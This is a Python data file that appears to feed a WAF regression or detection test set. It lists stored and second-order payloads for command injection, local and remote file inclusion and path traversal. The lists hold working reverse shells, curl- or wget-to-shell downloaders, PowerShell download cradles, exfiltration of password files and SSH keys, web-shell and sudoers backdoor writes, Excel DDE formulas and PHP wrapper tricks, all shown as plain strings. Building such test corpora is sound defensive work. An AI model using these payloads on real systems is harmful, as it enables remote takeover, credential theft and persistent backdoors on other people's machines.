"""Blind set "hundredninetythird": OS command injection, local file inclusion / path traversal and remote file
inclusion planted as stored, second-order data, with benign requests that fill the same fields innocently.

The angle: stored and second-order payloads, recalled from memory. The attacker does not expect the request that
carries the payload to do anything: it is saved now (a display name, a bio, an address, an upload's file name, a
setting or preference, a webhook URL, a notification or e-mail template, a cell of an import file, a search filter
saved as a report, a User-Agent or Referer written to a log an admin views, a JSON document kept as a blob) and
used later by a sink that trusts it: the nightly export's shell, a cron job that pings a stored host name, the
badge printer's ImageMagick command line, a Windows scheduled task's batch file, Excel opening an exported CSV, a
PowerShell mailer, a CGI log analyser that hands the User-Agent to bash, a PHP admin page that includes the stored
theme or language, a PDF renderer (wkhtmltopdf, WeasyPrint) that loads what stored HTML points at, an XSLT report
template, a log viewer that includes a log file. Each payload is shaped for the sink that reads it later and is a
working attack on the target its list's comment names (POSIX sh/bash, cmd.exe, PowerShell, PHP, Tomcat/IIS,
Excel, wkhtmltopdf/WeasyPrint, libxslt, Twig).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes, under the names of the fields that store it
(display_name, bio, address, filename, signature, hostname, template, theme, avatar_path, webhook_url, feed_url,
...): the query of /api/users, the admin search form with its csrf_token, JSON of /api/users, a cookie,
User-Agent, Referer, a parameter name, an XML body, a multipart field, an upload's file name on the admin import,
the URL path; whole settings documents go as the JSON body, User-Agent and Referer poison goes in those headers,
file names as the upload's file name. Once the way a WAF regression suite sends it (placements prefixed "rs-"):
to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form body (`name=payload`, only what would break the body encoded), an upload's file name, or in User-Agent,
Referer, a custom header or a cookie. Include parameters written as `page=http://...` go unquoted as the pair
they are. Payloads with control characters never go into headers, cookies, file names or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from .blind_placements import FORM, BlindSet, Put, Record, request
from .records import print_records

NAME = "hundredninetythird"

# An entry is a payload string, or (payload, real placement, rs placement) when it is stored through one field kind.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole settings / preferences document kept as a JSON blob
UA = ("header:User-Agent", "rs-header:User-Agent")   # written to the access log, read later
REF = ("header:Referer", "rs-header:Referer")
FN = ("multipart-filename", "rs-multipart-filename")   # an upload's file name, kept and reused

# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection (; | || && ` $() newline)
UNIX_CMD: list[Entry] = [
    # stored: display names. Sink: the nightly export job, sh -c "zip /exports/$name.zip ..." (POSIX sh, Debian)
    "Ana Lima; id > /tmp/.export_check",
    "report-june.csv; uname -a",
    "q3 summary | id",
    "backup || whoami",
    "invoice.pdf && cat /etc/os-release",
    "$(id)",
    "`id`",
    "Jo\nid\n",
    # stored: badge name. Sink: the badge printer, sh -c "convert -annotate 0 '$name' badge.png" (single quotes)
    "x'; id; echo '",
    "x'$(whoami)'",
    # stored: welcome-mail subject. Sink: system("mail -s \"Welcome $name\" ...") (double quotes, sh)
    "Bob\"; ping -c 4 198.51.100.23; echo \"",
    # stored: monitored host in settings. Sink: the health-check cron, `ping -c1 $host` (bash)
    "127.0.0.1; id",
    "127.0.0.1 && nslookup $(whoami).oast.example",
    "8.8.8.8`sleep 9`",
    # stored: avatar file name. Sink: the thumbnailer, sh -c "exiftool -all= uploads/$filename"
    ("avatar.jpg;id;.jpg", *FN),
    ("photo$(id).png", *FN),
    # stored: repository URL in integration settings. Sink: `git clone $url` (git over ext:: transport, sh)
    "ext::sh -c touch% /tmp/pwned",
]

# unix-shell-expression-evasion (quotes, ${IFS}, globbing, brace expansion, variables)
UNIX_EVASION: list[Entry] = [
    # stored: display name, the profile form strips spaces. Sink: the export cron's bash
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";c'a't${IFS}/e't'c/pa's'swd",
    r";c\at /et\c/pas\swd",
    # stored: address line, the filter blocks the words cat/id/whoami. Sink: the label printer's sh -c
    ";/???/c?t /???/p?ss??",
    ";a=ca;b=t;$a$b /etc/passwd",
    ";w$@hoami",
    ";who$()ami",
    r";$'\x69\x64'",
    ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
    # stored: signature. Sink: the mail-merge shell step; the payload is encoded so the signature looks inert
    ";echo aWQ= | base64 -d | sh",
    "$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh)",
    ";rev<<<'imaohw'|sh",
    ";tr a-z n-za-m<<<vq|sh",
    r";X=$'cat\x20/etc/shadow'&&$X",
    r";$(printf '\151\144')",
]

# windows-cmd-injection (cmd.exe)
WIN_CMD: list[Entry] = [
    # stored: saved report name. Sink: the Windows scheduled export, a .bat running copy report.tmp "%NAME%.csv"
    r"q2.csv & type C:\Windows\win.ini",
    "q2.csv | whoami",
    "q2.csv && net user support2 Passw0rd! /add",
    "\" & net localgroup administrators support2 /add & \"",
    "%COMSPEC% /c whoami /all",
    "& w^h^o^a^m^i",
    "& ping -n 15 127.0.0.1 &",
    r"& reg query HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters",
    r"& copy \\198.51.100.40\tools\nc.exe %TEMP%\nc.exe & %TEMP%\nc.exe 198.51.100.40 4444 -e cmd.exe",
    r"& certutil -urlcache -split -f http://198.51.100.40/a.exe C:\Users\Public\a.exe & C:\Users\Public\a.exe",
    r"& bitsadmin /transfer job /download /priority high http://198.51.100.40/b.exe C:\Windows\Temp\b.exe",
    r"& wmic process call create "
    r'"cmd.exe /c whoami > C:\inetpub\wwwroot\w.txt"',
    # stored: cells of the user import CSV, exported again and opened by an admin in Excel (DDE -> cmd.exe)
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell -w hidden -c iwr http://198.51.100.40/x.ps1|iex'!A1",
    "@SUM(1+1)*cmd|' /C notepad'!A0",
    r"+cmd|' /C whoami > %TEMP%\o.txt'!B1",
    r"=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''",
]

# powershell
POWERSHELL: list[Entry] = [
    # stored: notification subject. Sink: a Windows worker running powershell -Command "Send-MailMessage
    # -Subject '$subject' ..." (PowerShell 5.1)
    "'; whoami; '",
    "'; Invoke-WebRequest -Uri ('http://198.51.100.41/?u=' + $env:USERNAME); '",
    "'; Get-ChildItem Env: | Out-File \\\\198.51.100.41\\loot\\env.txt; '",
    "$(Invoke-Expression 'whoami')",
    # stored: export file name. Sink: cmd.exe batch that shells out to PowerShell
    "; powershell -nop -w hidden -enc dwBoAG8AYQBtAGkA",
    "& powershell -NoProfile -ExecutionPolicy Bypass -Command "
    "\"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.41/r.ps1')\"",
    "| powershell -c \"iex(iwr http://198.51.100.41/a.ps1 -UseBasicParsing)\"",
    "& powershell Invoke-WebRequest -Uri http://198.51.100.41/b.exe -OutFile $env:TEMP\\b.exe; "
    "Start-Process $env:TEMP\\b.exe",
    "; iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))",
    "& powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "& pwsh -c 'Get-Content /etc/passwd'",
    "& powershell -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.41',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)."
    "GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);"
    "$s.Write($t,0,$t.Length)}\"",
    "; powershell.exe -nop -c \"Remove-Item -Recurse -Force C:\\inetpub\\wwwroot\\*\"",
    "; p^o^w^e^r^s^h^e^l^l -c whoami",
    "& powershell -e SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBs"
    "AG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgA0ADEALwByAC4AcABzADEAJwApAA==",
    "& PowerShell.exe -NonI -W Hidden -NoP -Exec Bypass -c \"[Net.ServicePointManager]::SecurityProtocol="
    "'Tls12';iex(New-Object Net.WebClient).DownloadString('https://attacker.example/i.ps1')\"",
    # stored: a settings blob whose "post_export_hook" the Windows agent runs with powershell -Command
    ('{"export":{"format":"xlsx","post_export_hook":"powershell -c \\"iwr http://198.51.100.41/h.ps1|iex\\""}}',
     *JB),
]

# unix-command-names-with-paths
UNIX_PATHS: list[Entry] = [
    # stored: hostname / display name. Sink: cron shell scripts run with an empty PATH, so full paths are used
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    "$(/usr/bin/whoami)",
    "`/bin/uname -a`",
    "&&/sbin/ifconfig -a",
    ";/usr/bin/env",
    ";/bin/ls -la /home",
    ";/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/usr/bin/find / -perm -4000 -type f",
    "||/usr/bin/nslookup $(hostname).oast.example",
    ";/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc",
    ";/bin/busybox telnetd -l /bin/sh -p 2323",
    ";/usr/local/bin/node -e 'require(\"child_process\").execSync(\"id\",{stdio:\"inherit\"})'",
    "|/usr/bin/getent passwd",
    ";/usr/bin/perl -e 'print `id`'",
    ("backup_$(/usr/bin/id -un).tar.gz", *FN),
]

# reverse-shells (bash /dev/tcp, nc, python, perl, socat ...)
REVERSE: list[Entry] = [
    # stored: "on-call script" and webhook fields the ops cron pastes into bash -c
    ";bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    ";bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.50 4444 >/tmp/f",
    ";nc -e /bin/sh 203.0.113.50 4444",
    ";python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.50\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";perl -e 'use Socket;$i=\"203.0.113.50\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    ";socat tcp-connect:203.0.113.50:4444 exec:/bin/sh,pty,stderr,setsid",
    "$(socat TCP:203.0.113.50:4444 EXEC:bash)",
    ";php -r '$s=fsockopen(\"203.0.113.50\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.50\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ";awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.50/4444\";while(1){printf \"$ \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print $0|&s;close(c)}}}'",
    ";0<&196;exec 196<>/dev/tcp/203.0.113.50/4444; sh <&196 >&196 2>&196",
    ";busybox nc 203.0.113.50 4444 -e sh",
    ";sh -i >& /dev/udp/203.0.113.50/53 0>&1",
    ";echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNTAvNDQ0NCAwPiYx|base64 -d|bash",
    ";node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 203.0.113.50 4444\")'",
    # stored: a whole integration document; the agent runs its "healthcheck" with sh -c
    ('{"integration":"uptime","healthcheck":"bash -c \'exec bash -i &>/dev/tcp/203.0.113.50/9001 <&1\'"}', *JB),
]

# shellshock (bash function import through environment variables)
SHELLSHOCK: list[Entry] = [
    # stored: User-Agent in the access log. Sink: the CGI log analyser that exports each logged header into the
    # environment of a bash CGI script (GNU bash <= 4.3)
    ("() { :; }; /bin/bash -c 'cat /etc/passwd'", *UA),
    ("() { :;}; echo; /usr/bin/id", *UA),
    ("() { :; }; echo Content-Type: text/plain; echo; /bin/cat /etc/shadow", *UA),
    ("() { _; } >_[$($())] { /usr/bin/id; }", *UA),
    ("() { :; }; /bin/sleep 20", *UA),
    ("() { ignored; }; /usr/bin/wget http://198.51.100.9/b -O /tmp/b; /bin/sh /tmp/b", *UA),
    # stored: Referer, same log analyser
    ("() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.9/8443 0>&1", *REF),
    ("() { :; }; /usr/bin/curl -A shellshocked http://oast.example/$(hostname)", *REF),
    ("() { :;}; /usr/bin/nslookup shellshock.oast.example", *REF),
    ("() { (a)=>\\' bash -c \"echo uname -a\"", *REF),
    # stored: display name exported as NOTIFY_NAME to the bash notification hook
    "() { :; }; /bin/ping -c 5 203.0.113.77",
    "() { foo;};echo;/bin/ls -la /",
    "() { :; }; exec 5<>/dev/tcp/203.0.113.77/80;cat /etc/passwd >&5",
    "() { :; }; /usr/bin/python -c 'import os;os.system(\"id\")'",
    "() { :; }; PATH=/usr/bin:/bin; export PATH; id",
    "() { x;}; /bin/bash -c \"nc 203.0.113.77 4444 -e /bin/bash\"",
    # stored: DHCP-style client hostname in device settings, handed to dhclient-script style bash hooks
    ("{\"device\":{\"hostname\":\"() { :; }; /bin/touch /tmp/shellshocked\",\"vendor\":\"acme\"}}", *JB),
]

# downloaders (curl / wget | sh)
DOWNLOADERS: list[Entry] = [
    # stored: backup target host. Sink: the backup cron's sh -c "rsync ... $target"
    ";curl -s http://203.0.113.61/x.sh | sh",
    "$(wget -qO- http://203.0.113.61/i|bash)",
    ";wget http://203.0.113.61/m -O /tmp/.m;chmod +x /tmp/.m;/tmp/.m",
    ";curl -o /var/www/html/s.php http://203.0.113.61/s.txt",
    "|curl -fsSL https://attacker.example/install.sh|bash -s -- --silent",
    ";fetch -o - http://203.0.113.61/f.sh | sh",
    ";cd /tmp; tftp -g -r mips 203.0.113.61; chmod 777 mips; ./mips",
    ";busybox wget http://203.0.113.61/arm7 -O /tmp/a; chmod +x /tmp/a; /tmp/a",
    ";curl http://203.0.113.61/p.py | python3",
    ";python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.61/s.py').read())\"",
    # stored: bio. Sink: the profile-card generator's shell; data goes out instead of in
    ";curl -d @/etc/passwd http://203.0.113.61/up",
    ";wget --post-file=/etc/shadow http://203.0.113.61/",
    ";curl -T /root/.ssh/id_rsa ftp://203.0.113.61/",
    "`wget -q -O /tmp/k http://203.0.113.61/k && sh /tmp/k`",
    ";curl -s http://203.0.113.61/$(id|base64)",
    ";php -r 'file_put_contents(\"/tmp/s\",file_get_contents(\"http://203.0.113.61/s\"));'; php /tmp/s",
    ('{"backup":{"target":"s3://bkp","pre_hook":"curl -s http://203.0.113.61/pre.sh | sh"}}', *JB),
]

# file-write-via-shell (echo > / tee)
FILE_WRITE: list[Entry] = [
    # stored: company name. Sink: the invoice cron's sh; the write plants a web shell / persistence
    ";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/cache.php",
    ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBq7kX3vN2pQ8sR1tY4uW6zA9cD0eF3gH5jK7lM8nP2q x' "
    ">> /root/.ssh/authorized_keys",
    ";echo '* * * * * root curl -s http://203.0.113.62/c|sh' >> /etc/crontab",
    ";tee /var/www/html/t.php <<< '<?=`$_GET[0]`?>'",
    ";printf '%s\\n' 'svc2::0:0::/root:/bin/bash' >> /etc/passwd",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+ | base64 -d > /var/www/html/u.php",
    ";cp /bin/bash /tmp/.sh && chmod 4755 /tmp/.sh",
    ";echo 'bash -i >& /dev/tcp/203.0.113.62/9001 0>&1' > /etc/profile.d/z.sh",
    ";touch /var/www/html/pwned.txt",
    ";echo '<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>' > /opt/tomcat/webapps/ROOT/c.jsp",
    r'& echo ^<%eval request("x")%^> > C:\inetpub\wwwroot\x.asp',
    ";sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
    ";echo 'ALL ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    ";cat > /tmp/x.sh <<'E'\ncurl 203.0.113.62|sh\nE\n",
    ";install -m 755 /dev/stdin /usr/local/bin/upd <<< 'nc 203.0.113.62 80 -e sh'",
    ";echo 'import os;os.system(\"id\")' > /usr/lib/python3/dist-packages/sitecustomize.py",
    "$(echo 'alias sudo=\"sudo tee -a /tmp/.p\"' >> ~/.bashrc)",
]

# restricted-file-names-in-commands
RESTRICTED_FILES: list[Entry] = [
    # stored: saved log-viewer filter. Sink: the admin log page, sh -c "grep '$filter' /var/log/app.log"
    "x' /dev/null; cat /etc/shadow; echo '",
    "';cat /etc/passwd;'",
    # stored: hostname / address fields. Sink: the same cron shells as above
    "|cat /etc/passwd",
    ";head -50 ~/.bash_history",
    ";cat /root/.ssh/id_rsa",
    "$(cat /proc/self/environ)",
    ";tail -n 100 /var/log/auth.log",
    ";less /etc/sudoers",
    ";cat /var/www/.htpasswd",
    r"& type C:\boot.ini",
    ";cat ~/.aws/credentials",
    ";grep -i pass /var/www/app/.env",
    ";cat /etc/mysql/debian.cnf",
    ";cat /etc/ssh/ssh_host_rsa_key",
    ";strings /var/lib/mysql/mysql/user.MYD",
    r"& type %SYSTEMROOT%\repair\sam",
    ";cat /home/*/.git-credentials",
]

# ================================================================================================================
# lfi
# ================================================================================================================
# path-traversal (../ and ..\ in every encoding)
TRAVERSAL: list[Entry] = [
    # stored: theme name in site settings. Sink: the PHP admin page, include "themes/$theme/header.php"
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
    # stored: avatar path. Sink: a Java servlet (Tomcat) streaming new File(base, avatar) with overlong UTF-8
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..;/..;/..;/WEB-INF/web.xml",
    # stored: attachment name. Sink: an IIS/ASP.NET download handler (backslash and %u forms)
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    r"..\..\..\..\windows\win.ini",
    "..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    r"%2e%2e\%2e%2e\%2e%2e\boot.ini",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    # stored: locale preference, a filter removes "../" once. Sink: PHP include "lang/$locale.php"
    "....//....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
    r"..\/..\/..\/..\/etc/passwd",
    # stored: display name NFKC-normalised before use as a folder name (Python unicodedata, fullwidth dots)
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    # stored: layout path with the expected prefix kept (the check is startswith("themes/"))
    "themes/default/../../../../../../etc/passwd",
    "/var/www/app/uploads/../../../../etc/shadow",
]

# os-file-access (/etc/passwd, /proc/self/*, win.ini, boot.ini, web.config, .htaccess, .git/, .env, id_rsa)
OS_FILES: list[Entry] = [
    # stored: report template file name. Sink: the report worker, open(os.path.join("reports", name)) (Python)
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/cwd/app/config.py",
    "../../../../proc/self/fd/7",
    "../../../../proc/self/maps",
    "../../../../proc/1/environ",
    "../../../../proc/net/fib_trie",
    "../../../../etc/shadow",
    "../../../../etc/group",
    # stored: attachment name. Sink: an ASP.NET handler, File.ReadAllBytes(Path.Combine(root, name))
    r"..\..\..\..\boot.ini",
    r"..\..\..\Windows\System32\config\SAM",
    r"..\..\web.config",
    # stored: logo path. Sink: the PHP/Apache branding page readfile("branding/$logo")
    "../../../.htaccess",
    "../../.git/config",
    "../../../.git/HEAD",
    "../../../.git/logs/HEAD",
    "../../.env",
    "../../.aws/credentials",
    # stored: avatar path. Sink: Node res.sendFile(path.join(root, avatar))
    "../../../../home/deploy/.ssh/id_rsa",
    "../../../../root/.ssh/authorized_keys",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../../root/.bash_history",
    "../../../../root/.docker/config.json",
    ("avatars/../WEB-INF/web.xml", *FN),
]

# absolute-paths
ABSOLUTE: list[Entry] = [
    # stored: custom template path in notification settings. Sink: PHP file_get_contents($tpl) on send
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/etc/nginx/nginx.conf",
    "/etc/apache2/apache2.conf",
    "/usr/local/etc/php/php.ini",
    "/opt/app/config/database.yml",
    "/var/www/html/wp-config.php",
    "/srv/app/.env",
    "/root/.ssh/id_rsa",
    # stored: same setting on a Windows host (IIS, XAMPP)
    r"C:\Windows\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    r"C:\inetpub\wwwroot\web.config",
    r"C:\xampp\apache\conf\httpd.conf",
    r"\\?\C:\Windows\win.ini",
    "file:///etc/passwd",
    "file:///c:/windows/win.ini",
    # stored: invoice notes rendered to PDF (wkhtmltopdf / WeasyPrint load local files the HTML points at)
    "<iframe src=\"file:///etc/passwd\" width=\"800\" height=\"1000\"></iframe>",
    "<link rel=\"attachment\" href=\"file:///proc/self/environ\">",
    "<embed src=\"file:///root/.ssh/id_rsa\" type=\"text/plain\">",
    "<script>x=new XMLHttpRequest;x.onload=function(){document.write(this.responseText)};"
    "x.open('GET','file:///etc/shadow');x.send()</script>",
    # stored: report stylesheet (libxslt document()) and mail template (Twig source())
    "<xsl:copy-of select=\"document('/etc/passwd')\"/>",
    "{{ source('/etc/passwd') }}",
]

# null-byte-truncation
NULL_BYTE: list[Entry] = [
    # stored: avatar path; the sink appends ".png". Sink: PHP < 5.3.4 include/readfile (C string at the NUL)
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.png",
    "../../../../etc/passwd\x00.jpg",
    "/etc/passwd%00.html",
    "../../../etc/shadow%2500.pdf",
    "....//....//etc/passwd%00.tpl",
    r"..\..\..\boot.ini%00.txt",
    "C:\\Windows\\win.ini\x00.ini",
    "..%00/..%00/..%00/etc/passwd",
    "../../../../etc/passwd%00/",
    "../../../../etc/passwd\x00",
    "../../../../proc/self/environ%00",
    "../../config/database.php%00.jpg",
    "../../../../etc/hosts%00.css",
    "../../../../etc/passwd%u0000.png",
    "../../../../etc/passwd%c0%80.png",
    "..%2f..%2f..%2fetc%2fpasswd%00.lang",
    "../../../../etc/passwd%00index.html",
    # stored: locale; PHP < 5.3 path truncation (MAXPATHLEN 4096 cuts the appended ".php")
    "../../../../etc/passwd" + "/." * 2100,
    "../../../../etc/passwd/./././././././././././././././././././././././././././././././.",
    # Windows truncation: trailing dots are dropped by the file system
    "../../../../windows/win.ini" + "." * 260,
    ("../../../../etc/passwd%00.jpg", *FN),
]

# php-wrapper-lfi
PHP_WRAPPER: list[Entry] = [
    # stored: language / page preference. Sink: PHP include($_SESSION['page'] . ...) on the admin dashboard
    "php://filter/convert.base64-encode/resource=../config/database.php",
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.UTF-8.UTF-16LE/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/string.toupper|string.rot13/resource=../../.env",
    "PhP://FiLtEr/convert.base64-encode/resource=../wp-config.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp",
    "php://input",
    "php://fd/3",
    # stored: avatar / import file path; the uploaded archive is read through an archive wrapper
    "phar://../uploads/avatars/5f2c9a.jpg/x.php",
    "phar:///var/www/app/storage/imports/users.csv/shell",
    "zip://../uploads/attachments/report.zip#shell.php",
    "zip:///tmp/upload_8a1f.zip%23cmd.php",
    "compress.zlib://../../../../etc/passwd",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data://text/plain,<?php phpinfo(); ?>",
    "expect://id",
    "glob:///var/www/html/*.bak",
    "file:///var/www/html/config.php",
    # stored: note body. Sink: file_put_contents($path, $note) with the path from settings
    "php://filter/write=convert.base64-decode/resource=shell.php",
    ('{"page":{"template":"php://filter/convert.base64-encode/resource=/var/www/html/config.php"}}', *JB),
]

# log-poisoning-targets (logs and session files that carry a planted User-Agent, then get included)
LOG_POISON: list[Entry] = [
    # stored: the log viewer's "open log" path. Sink: PHP include of the log (the User-Agent was poisoned before)
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "../../../../var/log/httpd/access_log",
    "../../../../proc/self/fd/2",
    "/proc/self/fd/1",
    "../../../../var/log/auth.log",
    "../../../../var/log/mail.log",
    "../../../../var/log/vsftpd.log",
    "/var/log/sshd.log",
    "../../../../var/log/xferlog",
    # session files: the display name was saved into the session, then the session file is included
    "../../../../var/lib/php/sessions/sess_9c1185a5c5e9fc54612808977ee8f548",
    "/tmp/sess_9c1185a5c5e9fc54612808977ee8f548",
    r"C:\xampp\apache\logs\access.log",
    r"..\..\..\..\xampp\apache\logs\error.log",
    "/usr/local/apache2/logs/access_log",
    "/opt/lampp/logs/access_log",
    "../../../../var/mail/www-data",
    "../../../../usr/local/nginx/logs/access.log",
    "/var/www/app/storage/logs/laravel.log",
    "../../storage/logs/laravel-2024-06-03.log",
    "/var/log/apache2/other_vhosts_access.log",
    "../../../../tmp/php_errors.log",
]

# restricted-file-extensions (.bak/.old/.config/.ini/.sql)
RESTRICTED_EXT: list[Entry] = [
    # stored: attachment name on a ticket. Sink: the download handler readfile("files/$name") (PHP)
    "../config.php.bak",
    "../../wp-config.php~",
    "../../wp-config.php.bak",
    "../settings.py.old",
    "../../backup/db-2024-06-01.sql",
    "../../dump.sql.gz",
    "../web.config.bak",
    "../../config/app.ini",
    "../../../etc/php/8.2/fpm/php.ini",
    "../../.env.bak",
    "../.index.php.swp",
    "../../includes/config.inc.old",
    "../../config/database.yml.orig",
    "../../../var/backups/passwd.bak",
    "../../site.config",
    "../../conf/server.xml.bak",
    "../../data/users.sql",
    r"..\..\App_Data\web.config.old",
    r"..\..\..\Windows\system.ini",
    "../../local.settings.ini",
    "../../db/schema.sql",
    "../../.htpasswd.bak",
    ("../../backup/users-export.sql", *FN),
]

# ================================================================================================================
# rfi
# ================================================================================================================
# url-with-ip-address
URL_IP: list[Entry] = [
    # stored: header/footer URL in site settings. Sink: the PHP admin layout, include($settings['header_url'])
    # with allow_url_include=On
    "http://203.0.113.80/shell.txt",
    "http://198.51.100.81:8000/rev.php",
    "https://192.0.2.82/payload.txt",
    "http://203.0.113.80:8080/inc/header.txt",
    "http://3405803856/s.txt",
    "http://0xcb007150/s.txt",
    "http://0313.0000.0161.0120/s.txt",
    "http://[::ffff:cb00:7150]/s.txt",
    "http://203.0.113.80/wso.txt",
    "http://198.51.100.81/r57.txt",
    "http://192.0.2.82/b374k.txt",
    "http://203.0.113.80/phpinfo.txt",
    "http://203.0.113.80/x.jpg",
    "http://198.51.100.81/template.tpl",
    "http://203.0.113.80/header.inc",
    "https://198.51.100.81:8443/lang/en.php.txt",
    "http://203.0.113.80/shell.txt#",
    "http://10.10.14.7/shell.php",
    "http://10.10.14.7:8000/rev.txt",
    "http://172.16.5.20/inc.txt",
    "http://192.168.56.101/shell.txt",
    "http://203.0.113.80/s.txt%00",
    "http://203.0.113.80/cmd.gif",
    "http://198.51.100.81/x.txt?cmd=id",
    # stored: report stylesheet (libxslt xsl:include fetches the remote sheet and runs its templates)
    "<xsl:include href=\"http://198.51.100.81/evil.xsl\"/>",
    # stored: invoice notes rendered by wkhtmltopdf (remote script runs inside the renderer)
    "<script src=\"http://192.0.2.82/pdf.js\"></script>",
    # stored: Smarty template name (Smarty 2 {include} with a remote resource)
    "{include file='http://203.0.113.80/t.tpl'}",
    # stored: the whole theme document
    ('{"theme":{"name":"dark","header_include":"http://203.0.113.80/h.txt"}}', *JB),
    ('{"i18n":{"lang_file":"http://198.51.100.81/fr.txt"}}', *JB),
    ("http://203.0.113.80/shell.txt?", *REF),
    ("http://192.0.2.82/ua.txt", *UA),
    "http://198.51.100.81/1.txt",
]

# url-with-trailing-question-mark (the trailing '?' turns the include's appended suffix into a query string)
